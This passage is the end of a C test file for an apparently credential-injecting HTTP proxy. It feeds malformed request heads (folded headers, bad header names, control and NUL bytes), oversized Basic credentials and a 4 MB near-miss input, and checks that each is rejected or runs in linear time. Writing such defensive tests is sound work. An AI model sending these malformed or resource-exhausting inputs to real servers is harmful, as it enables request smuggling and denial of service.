		"GET / HTTP/1.1\r\n folded: x\r\n\r\n",
		"GET / HTTP/1.1\r\nA B: c\r\n\r\n",
		"GET /\x01 HTTP/1.1\r\n\r\n",
	};
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
		expect(&set, "x.test", 443, bad[i], CRED_ERROR, -1, show(bad[i]));
	r = cred_rewrite_head(&set, "x.test", 443, "GET / HTTP/1.1\r\nA:\0\r\n\r\n", 23, out, sizeof out, &oc);
	CHECK(r == -1 && oc.verdict == CRED_ERROR, "NUL in a header: error");

	struct cred_value many[CRED_MAX_SECRETS + 1];
	for (size_t i = 0; i <= CRED_MAX_SECRETS; i++)
		many[i] = value(&gh, (int)i, "tok");
	struct cred_set too_many = { many, CRED_MAX_SECRETS + 1 };
	expect(&too_many, "x.test", 443, "GET / HTTP/1.1\r\n\r\n", CRED_ERROR, -1, "more than 64 secrets: error");

	/* Basic credentials too long to search: refused, not passed unseen */
	static char big[8192];
	strcpy(big, "GET / HTTP/1.1\r\nAuthorization: Basic ");
	size_t at = strlen(big);
	memset(big + at, 'Q', 6000);
	strcpy(big + at + 6000, "\r\n\r\n");
	expect(&set, "x.test", 443, big, CRED_ERROR, -1, "6000 bytes of Basic credentials: error");
	secret_free(&gh);
	secret_free(&rep);
}

/* Many prefixes without a valid placeholder after them, and a long run of
 * near misses: linear time. */
static void test_adversarial(void)
{
	struct cred_secret s[CRED_MAX_SECRETS];
	struct cred_value v[CRED_MAX_SECRETS];
	for (int i = 0; i < CRED_MAX_SECRETS; i++) {
		s[i] = secret("S", "a.test:443", NULL, NULL, "GET /*a*a*a*a*b|GET /x*");
		v[i] = value(&s[i], i, "v");
	}
	struct cred_set set = { v, CRED_MAX_SECRETS };
	size_t n = 4 << 20;
	char *head = malloc(n), *o = malloc(2 * n);
	size_t k = (size_t)sprintf(head, "GET /x HTTP/1.1\r\nX: ");
	const char *unit = "AIRLOCK-PLACEHOLDER-";
	while (k + 200 < n / 2) {
		memcpy(head + k, unit, 20);
		k += 20;
	}
	/* near misses: the right prefix and 31 right hex digits */
	while (k + 200 < n) {
		memcpy(head + k, v[5].placeholder, CRED_PH_LEN - 1);
		head[k + CRED_PH_LEN - 1] = 'g';
		k += CRED_PH_LEN;
	}
	k += (size_t)sprintf(head + k, "\r\n\r\n");
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	ssize_t r = cred_rewrite_head(&set, "a.test", 443, head, k, o, 2 * n, &oc);
	size_t at;
	ssize_t f = cred_find(&set, head, k, &at);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	CHECK(r == (ssize_t)k && oc.verdict == CRED_NONE && f == -1 && secs < 2.0,
	      "4 MB of prefixes and near misses with 64 secrets: none, in %.3f s", secs);
	free(head);
	free(o);
	for (int i = 0; i < CRED_MAX_SECRETS; i++)
		secret_free(&s[i]);
}

int main(void)
{
	test_placeholder();
	test_hosts();
	test_find();
	test_canonical();
	test_rules();
	test_base64();
	test_inject();
	test_replace();
	test_exfil();
	test_expiry();
	test_rules_rewrite();
	test_errors();
	test_adversarial();
	return check_done();
}
